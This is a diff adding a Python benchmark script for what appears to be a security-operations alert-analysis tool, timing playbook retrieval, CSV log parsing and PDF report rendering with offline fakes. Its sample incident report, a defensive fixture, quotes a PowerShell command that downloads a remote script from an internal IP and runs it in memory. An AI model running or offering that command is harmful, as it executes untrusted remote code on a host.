@@ -0,0 +1,342 @@
+# bench.py
+# Offline micro-benchmarks for the retrieval, parsing and rendering hot paths.
+#
+# Embeddings and the LLM are replaced by in-process fakes, so nothing leaves the
+# machine and the numbers measure our code rather than OpenAI. Results are
+# written as JSON (one file per run, tagged with the git commit) so two runs can
+# be compared:
+#
+#   python benchmarks/bench.py                       # full run, writes benchmarks/results/<ts>_<sha>.json
+#   python benchmarks/bench.py --quick               # smaller inputs, no 1M-row CSV
+#   python benchmarks/bench.py --only csv,meta       # subset by name prefix
+#   python benchmarks/bench.py --compare benchmarks/results/a.json benchmarks/results/b.json
+import os
+import sys
+import csv
+import json
+import time
+import random
+import hashlib
+import argparse
+import platform
+import tempfile
+import statistics
+import subprocess
+from pathlib import Path
+
+ROOT = Path(__file__).resolve().parent.parent
+BACKEND_DIR = ROOT / "Backend"
+FRONTEND_DIR = ROOT / "Frontend"
+RESULTS_DIR = ROOT / "benchmarks" / "results"
+
+CSV_SIZES = (1_000, 10_000, 100_000, 1_000_000)
+CSV_SIZES_QUICK = (1_000, 10_000)
+N_ALERTS = 10_000
+
+SAMPLE_REPORT = """Title: Pass-the-Hash via PsExec and blocked SAM/SYSTEM dump
+Date: 2025-10-24
+Alert Type/Category: Attempted Compromise
+Severity: High
+Analyst Name:
+Case #:
+
+# DETECTION AND ANALYSIS
+
+## Alert Summary:
+Microsoft Defender detected a pass-the-hash logon from WKSTN-23 to SRV-APPS01 by the user ola.hansen.
+
+```powershell.exe -c "(New-Object System.Net.WebClient).DownloadString('http://192.168.45.199/payloads/run.txt') | IEX"```
+The command downloads and runs a remote script in memory.
+
+## Key Details:
+Host: SRV-APPS01
+User: SILVERLINE\\svc_deploy
+Source IP: 10.0.12.37
+
+## Consequence:
+The attacker can move laterally with the service account's privileges.
+
+# CONTAINMENT
+
+## Executed Remediation Actions:
+- Isolated SRV-APPS01
+
+## Recommended Remediation Actions:
+- Reset the password of svc_deploy
+"""
+
+
+def timed(fn, repeat=5, number=1):
+    """Run fn number times per sample, repeat samples; seconds per call."""
+    samples = []
+    for _ in range(repeat):
+        t0 = time.perf_counter()
+        for _ in range(number):
+            fn()
+        samples.append((time.perf_counter() - t0) / number)
+    return {
+        "repeat": repeat,
+        "number": number,
+        "min_s": min(samples),
+        "median_s": statistics.median(samples),
+        "mean_s": statistics.fmean(samples),
+        "max_s": max(samples),
+    }
+
+
+# --- fakes -----------------------------------------------------------------------------------------------------------
+
+def install_fakes(main):
+    """Swap the OpenAI embedding function and the LLM router for offline fakes."""
+    from chromadb.utils import embedding_functions
+    from providers import Completion
+
+    class FakeEmbeddingFunction(embedding_functions.EmbeddingFunction):
+        dim = 256
+
+        def __init__(self, *args, **kwargs):
+            pass
+
+        def __call__(self, input):
+            import numpy as np
+            out = []
+            for text in input:
+                vec = np.zeros(self.dim, dtype=np.float32)
+                for word in text.lower().split():
+                    vec[int(hashlib.md5(word.encode("utf-8")).hexdigest(), 16) % self.dim] += 1.0
+                out.append(vec / (np.linalg.norm(vec) or 1.0))
+            return out
+
+    class FakeRouter:
+        def complete(self, prompt, deadline_s=None, **params):
+            return Completion(SAMPLE_REPORT, "fake", False, 0.0)
+
+        def stats(self):
+            return {}
+
+    import chromadb
+    main.embedding_functions.OpenAIEmbeddingFunction = FakeEmbeddingFunction
+    main.client = chromadb.EphemeralClient()
+    main.llm_router = FakeRouter()
+
+
+# --- synthetic data --------------------------------------------------------------------------------------------------
+
+def write_synthetic_log(path: Path, rows: int, template: Path):
+    """Write a CSV with the header of template and rows cycled from its body, timestamps shifted."""
+    with template.open("r", encoding="utf-8", newline="") as fh:
+        reader = csv.reader(fh)
+        header = next(reader)
+        body = [r for r in reader if r]
+    ts_col = header.index("timestamp") if "timestamp" in header else None
+    with path.open("w", encoding="utf-8", newline="") as fh:
+        writer = csv.writer(fh, quoting=csv.QUOTE_ALL)
+        writer.writerow(header)
+        for i in range(rows):
+            row = list(body[i % len(body)])
+            if ts_col is not None:
+                row[ts_col] = f"2025-10-24T{(i // 3600) % 24:02d}:{(i // 60) % 60:02d}:{i % 60:02d}+02:00"
+            writer.writerow(row)
+
+
+def synthetic_alerts(n: int, alert_dir: Path):
+    """n alert payloads shaped like RagData/alert/*.json, with varied names and severities."""
+    templates = [json.loads(p.read_text(encoding="utf-8")) for p in sorted(alert_dir.glob("*.json"))]
+    rng = random.Random(42)
+    severities = ["Low", "Medium", "High", "Critical", None, ""]
+    alerts = []
+    for i in range(n):
+        payload = json.loads(json.dumps(templates[i % len(templates)]))
+        for obj in payload:
+            if isinstance(obj, dict) and "alert_name" in obj:
+                obj["alert_name"] = f"{obj['alert_name']} #{i}"
+                obj["severity"] = rng.choice(severities)
+        if rng.random() < 0.5:
+            payload.reverse()  # customer object last: forces a full scan
+        alerts.append(payload)
+    return alerts
+
+
+# --- benchmarks ------------------------------------------------------------------------------------------------------
+
+def bench_playbooks(results, main, quick):
+    playbooks = json.loads((BACKEND_DIR / "RagData" / "playbooks.json").read_text(encoding="utf-8"))
+    results["playbook_flatten"] = timed(lambda: [main.playbook_chunks(pb) for pb in playbooks],
+                                        repeat=5, number=200)
+
+    counter = iter(range(10 ** 9))
+
+    def index_fresh():
+        name = f"bench_index_{next(counter)}"
+        main.get_playbook_collection(name, str(BACKEND_DIR / "RagData" / "playbooks.json"))
+        main._collections.pop(name, None)
+        main.client.delete_collection(name)
+
+    results["playbook_index"] = timed(index_fresh, repeat=3 if quick else 5)
+
+
+def bench_rag(results, main, quick):
+    alert = json.loads((FRONTEND_DIR / "RagData" / "alert" / "PTH_alert.json").read_text(encoding="utf-8"))
+    log_lines = (FRONTEND_DIR / "RagData" / "logs" / "PTH_log.csv").read_text(encoding="utf-8").splitlines()
+    customer = alert[0]["Customer"]
+    collection_file = str(BACKEND_DIR / "RagData" / "playbooks.json")
+    main.get_playbook_collection("soc_playbooks_bench", collection_file)
+    collection = main._collections["soc_playbooks_bench"]
+
+    results["rag_retrieval"] = timed(
+        lambda: main.retrieve_playbook(collection, "pth", "XDR"), repeat=5, number=20)
+    results["rag_chat_full"] = timed(
+        lambda: main.rag_chat("pth", "initial analysis", str(customer), log_lines, {"raw": alert},
+                              collection_name="soc_playbooks_bench", playbooks_file=collection_file,
+                              contract_type="XDR"),
+        repeat=5, number=20)
+    results["rag_chat_sections"] = timed(
+        lambda: main.rag_chat("pth", "initial analysis", str(customer), log_lines, {"raw": alert},
+                              collection_name="soc_playbooks_bench", playbooks_file=collection_file,
+                              contract_type="XDR", mode="sections"),
+        repeat=5, number=5 if quick else 20)
+
+
+def bench_csv(results, logs, workdir, quick):
+    from log_tail import CsvTail
+    template = FRONTEND_DIR / "RagData" / "logs" / "PTH_log.csv"
+    for rows in (CSV_SIZES_QUICK if quick else CSV_SIZES):
+        path = workdir / f"bench{rows}_log.csv"
+        write_synthetic_log(path, rows, template)
+        repeat = 3 if rows >= 100_000 else 5
+        results[f"csv_read_lines_{rows}"] = {
+            **timed(lambda: logs.read_csv_lines_as_text(path), repeat=repeat),
+            "bytes": path.stat().st_size,
+        }
+        results[f"csv_parse_table_{rows}"] = {
+            **timed(lambda: logs.parse_csv_for_table(path), repeat=repeat),
+            "bytes": path.stat().st_size,
+        }
+        # follow mode: cost of picking up one appended row, should not grow with the file
+        tail = CsvTail(path)
+        tail.refresh()
+        with path.open("r", encoding="utf-8", newline="") as fh:
+            last_line = fh.readlines()[-1]
+
+        def append_row():
+            with path.open("a", encoding="utf-8", newline="") as fh:
+                fh.write(last_line)
+            tail.refresh()
+
+        results[f"csv_tail_append_{rows}"] = timed(append_row, repeat=5, number=100)
+        path.unlink()
+
+
+def bench_meta(results, alerts_module, quick):
+    alerts = synthetic_alerts(N_ALERTS // 10 if quick else N_ALERTS, FRONTEND_DIR / "RagData" / "alert")
+    results[f"extract_meta_{len(alerts)}"] = timed(
+        lambda: [alerts_module.extract_meta(a) for a in alerts], repeat=5)
+
+
+def bench_pdf(results, analysis, quick):
+    analysis.PDF_CACHE_DIR = Path(tempfile.mkdtemp(prefix="bench_pdf_cache_"))
+    results["markdown_to_html"] = timed(lambda: analysis.markdown_to_html(SAMPLE_REPORT), repeat=5, number=50)
+
+    def cold():
+        analysis._pdf_cache.clear()
+        for cached in analysis.PDF_CACHE_DIR.glob("*.pdf"):
+            cached.unlink()
+        analysis.markdown_to_pdf(SAMPLE_REPORT)
+
+    try:
+        results["markdown_to_pdf_cold"] = timed(cold, repeat=2 if quick else 3)
+        results["markdown_to_pdf_cached"] = timed(lambda: analysis.markdown_to_pdf(SAMPLE_REPORT),
+                                                  repeat=5, number=100)
+    except Exception as e:  # no Chromium installed: report it instead of failing the whole run
+        results["markdown_to_pdf_cold"] = {"skipped": f"{e.__class__.__name__}: {e}"}
+
+
+# --- driver ----------------------------------------------------------------------------------------------------------
+
+def git_commit():
+    try:
+        return subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], cwd=ROOT, text=True).strip()
+    except Exception:
+        return "unknown"
+
+
+def run(only, quick):
+    workdir = Path(tempfile.mkdtemp(prefix="tier05_bench_"))
+    # both apps use relative paths (outputs/, chroma_db/); keep them out of the tree
+    os.chdir(workdir)
+    sys.path[:0] = [str(BACKEND_DIR), str(FRONTEND_DIR)]
+
+    results = {}
+
+    def wanted(name):
+        return not only or any(name.startswith(o) for o in only)
+
+    if wanted("playbook") or wanted("rag"):
+        import main as backend_main
+        install_fakes(backend_main)
+        if wanted("playbook"):
+            bench_playbooks(results, backend_main, quick)
+        if wanted("rag"):
+            bench_rag(results, backend_main, quick)
+    if wanted("csv"):
+        from routes import logs
+        bench_csv(results, logs, workdir, quick)
+    if wanted("meta"):
+        from routes import alerts
+        bench_meta(results, alerts, quick)
+    if wanted("pdf"):
+        from routes import analysis
+        bench_pdf(results, analysis, quick)
+    return results
+
+
+def compare(old_path, new_path):
+    old = json.loads(Path(old_path).read_text(encoding="utf-8"))
+    new = json.loads(Path(new_path).read_text(encoding="utf-8"))
+    print(f"{'benchmark':32} {old['commit']:>12} {new['commit']:>12}   change")
+    for name in sorted(set(old["results"]) | set(new["results"])):
+        a = old["results"].get(name, {}).get("median_s")
+        b = new["results"].get(name, {}).get("median_s")
+        if a is None or b is None:
+            print(f"{name:32} {'-' if a is None else f'{a * 1e3:10.3f}ms':>12} "
+                  f"{'-' if b is None else f'{b * 1e3:10.3f}ms':>12}")
+            continue
+        print(f"{name:32} {a * 1e3:10.3f}ms {b * 1e3:10.3f}ms   {(b - a) / a * 100:+6.1f}%")
+
+
+def main():
+    parser = argparse.ArgumentParser(description="Offline micro-benchmarks for Tier 0.5")
+    parser.add_argument("--only", default="", help="comma separated benchmark name prefixes")
+    parser.add_argument("--quick", action="store_true", help="smaller inputs, skip the 1M-row CSV")
+    parser.add_argument("--out", help="output JSON path (default benchmarks/results/<ts>_<commit>.json)")
+    parser.add_argument("--compare", nargs=2, metavar=("OLD", "NEW"), help="compare two result files")
+    args = parser.parse_args()
+
+    if args.compare:
+        compare(*args.compare)
+        return
+
+    commit = git_commit()
+    out = Path(args.out).resolve() if args.out else RESULTS_DIR / f"{time.strftime('%Y%m%d_%H%M%S')}_{commit}.json"
+    only = [o.strip() for o in args.only.split(",") if o.strip()]
+    results = run(only, args.quick)
+    report = {
+        "commit": commit,
+        "timestamp": time.strftime("%Y-%m-%dT%H:%M:%S"),
+        "python": platform.python_version(),
+        "platform": platform.platform(),
+        "quick": args.quick,
+        "results": results,
+    }
+    out.parent.mkdir(parents=True, exist_ok=True)
+    out.write_text(json.dumps(report, indent=2), encoding="utf-8")
+    for name, r in results.items():
+        if "median_s" in r:
+            print(f"{name:32} median {r['median_s'] * 1e3:10.3f} ms   min {r['min_s'] * 1e3:10.3f} ms")
+        else:
+            print(f"{name:32} {r}")
+    print(f"wrote {out}")
+
+
+if __name__ == "__main__":
+    main()